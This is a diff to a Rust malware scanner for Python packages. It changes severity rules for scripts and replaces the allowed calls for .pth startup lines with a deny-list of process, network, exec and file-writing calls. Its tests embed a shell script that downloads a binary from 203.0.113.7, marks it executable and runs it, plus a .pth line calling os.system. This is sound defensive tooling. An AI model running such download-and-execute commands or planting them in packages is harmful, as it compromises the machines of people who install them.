@@ -166,6 +166,8 @@ struct Collector<'r> {
     findings: Vec<(Option<String>, MemberFinding)>,
     /// Directory names and module stems the archive ships (its own modules).
     modules: std::collections::BTreeSet<String>,
+    /// Findings in scripts, judged once setup.py is known.
+    scripts: Vec<(String, MemberFinding)>,
 }
 
 impl Collector<'_> {
@@ -218,11 +220,20 @@ impl Collector<'_> {
             self.deferred.push((path, data));
             return;
         }
+        let script = SCRIPTS.iter().any(|x| lower.ends_with(x));
         for f in analyze::analyze(self.rules, &path, &data, role) {
-            self.findings.push((Some(path.clone()), f));
+            if script {
+                self.scripts.push((path.clone(), f));
+            } else {
+                self.findings.push((Some(path.clone()), f));
+            }
         }
     }
 }
+
+/// Shell, PowerShell and batch scripts: nothing runs them on install or
+/// import unless the package's own code names them.
+const SCRIPTS: &[&str] = &[".sh", ".ps1", ".bat", ".cmd", ".vbs"];
 
 /// Scans an archive held in memory. `filename` is used only to tell wheels
 /// from sdists for the binary check; the format comes from the bytes.
@@ -249,6 +260,7 @@ pub fn scan_bytes(
         is_wheel: false,
         findings: Vec::new(),
         modules: std::collections::BTreeSet::new(),
+        scripts: Vec::new(),
     };
     let mut contents = archive::read(bytes, limits, &keep, &mut |m| c.member(m, "", 0));
     let mut opened = 0usize;
@@ -322,6 +334,7 @@ pub fn scan_bytes(
         is_wheel,
         findings,
         modules: own_modules,
+        scripts,
         ..
     } = c;
     let mut out = ArchiveScan {
@@ -407,6 +420,19 @@ pub fn scan_bytes(
             ));
         }
     }
+    // A script setup.py does not name (CI helpers, tooling) does not run on
+    // install or import: medium at most.
+    for (path, mut f) in scripts {
+        let base = path.rsplit('/').next().unwrap_or(&path);
+        if !names_file(&setup_text, base) && f.severity > Severity::Medium {
+            f.severity = Severity::Medium;
+            f.evidence.push((
+                "runs".into(),
+                "only if someone runs this script: setup.py does not name it".into(),
+            ));
+        }
+        out.findings.push((Some(path), f));
+    }
     // An inner archive named by a `.pth` file or setup.py is on the import
     // path or run at install: what is in it runs like the rest.
     let mut launchers = setup_text.clone();
@@ -462,15 +488,30 @@ fn names_file(text: &str, base: &str) -> bool {
 /// Modules a startup line may import without being suspect by that alone.
 const STARTUP_STDLIB: &[&str] = &["os", "sys", "site", "types", "importlib", "warnings"];
 
-/// Calls a startup line may make besides its own modules': reading its
-/// switches and saying what failed.
-const STARTUP_CALLS: &[&str] = &[
-    "os.getenv",
-    "os.environ.get",
-    "sys.stderr.write",
-    "os.path.exists",
-    "os.path.join",
-    "os.path.dirname",
+/// Calls that make a startup line more than a switch for its own modules:
+/// starting programs, talking to the network, running or loading code,
+/// writing or removing files.
+const STARTUP_RUNNERS: &[&str] = &[
+    "os.system",
+    "os.popen",
+    "os.exec",
+    "os.spawn",
+    "os.startfile",
+    "os.remove",
+    "os.unlink",
+    "subprocess.",
+    "socket.",
+    "urllib",
+    "requests.",
+    "http.",
+    "ctypes.",
+    "shutil.",
+    "importlib.",
+    "builtins.exec",
+    "builtins.eval",
+    "builtins.compile",
+    "builtins.__import__",
+    "builtins.open",
 ];
 
 /// The findings of a `.pth` file. Where it is decides first: one in tests or
@@ -537,11 +578,9 @@ fn pth_findings(
                 .iter()
                 .filter(|m| !own_modules.contains(*m) && !STARTUP_STDLIB.contains(&m.as_str()))
                 .collect();
-            // Calls into its own modules, and reads of its configuration.
-            let quiet_call = |c: &String| {
-                let root = c.split('.').next().unwrap_or("");
-                own_modules.contains(root) || STARTUP_CALLS.contains(&c.as_str())
-            };
+            // Calls into its own modules and on its own values are a switch;
+            // starting, fetching, loading or writing anything is not.
+            let quiet_call = |c: &String| !STARTUP_RUNNERS.iter().any(|r| c.starts_with(r));
             if foreign.is_empty() && startup.calls.iter().all(quiet_call) {
                 let own: Vec<&str> = startup
                     .imports
@@ -822,6 +861,15 @@ mod tests {
             pth_severities(&[("x.pth", b"import elsewhere_hook\n")]),
             vec![("x.pth".into(), Severity::High)]
         );
+        // pytest-cov's idiom: a switch, its own module, a message on failure.
+        let switch = br#"import os, sys;exec('if \'COV_CORE_SOURCE\' in os.environ:\n try:\n  from cov.embed import init\n  init()\n except Exception as exc:\n  sys.stderr.write("failed: {0!r}".format(dict((k, v) for k, v in os.environ.items() if k.startswith(\'COV\')), exc))\n')"#;
+        assert_eq!(
+            pth_severities(&[
+                ("cov.pth", switch),
+                ("cov/embed.py", b"def init():\n    pass\n")
+            ]),
+            vec![("cov.pth".into(), Severity::Low)]
+        );
         // Running anything else (a shell command) is not quiet.
         let shell = pth_severities(&[("x.pth", b"import os; os.system('echo hi')\n")]);
         assert!(shell.iter().all(|(_, s)| *s >= Severity::High), "{shell:?}");
@@ -847,5 +895,24 @@ mod tests {
                 .iter()
                 .any(|f| f.rule == RuleId::Exfiltration)
         );
+    }
+
+    #[test]
+    fn scripts_nothing_names_do_not_run_on_install() {
+        let script: &[u8] =
+            b"#!/bin/sh\nwget -q https://203.0.113.7/x -O /tmp/x\nchmod +x /tmp/x\n/tmp/x\n";
+        let top = |setup: &[u8]| {
+            let archive = targz(&[("p-1.0/setup.py", setup), ("p-1.0/ci/install.sh", script)]);
+            let scan = scan_bytes("p-1.0.tar.gz", &archive, &Limits::default()).unwrap();
+            scan.findings
+                .iter()
+                .filter(|(m, _)| m.as_deref() == Some("p-1.0/ci/install.sh"))
+                .map(|(_, f)| f.severity)
+                .max()
+        };
+        let quiet = top(b"from setuptools import setup\nsetup()\n");
+        assert!(quiet.is_some_and(|s| s <= Severity::Medium), "{quiet:?}");
+        let named = top(b"import subprocess\nsubprocess.call(['sh', 'ci/install.sh'])\n");
+        assert!(named.is_some_and(|s| s >= Severity::High), "{named:?}");
     }
 }
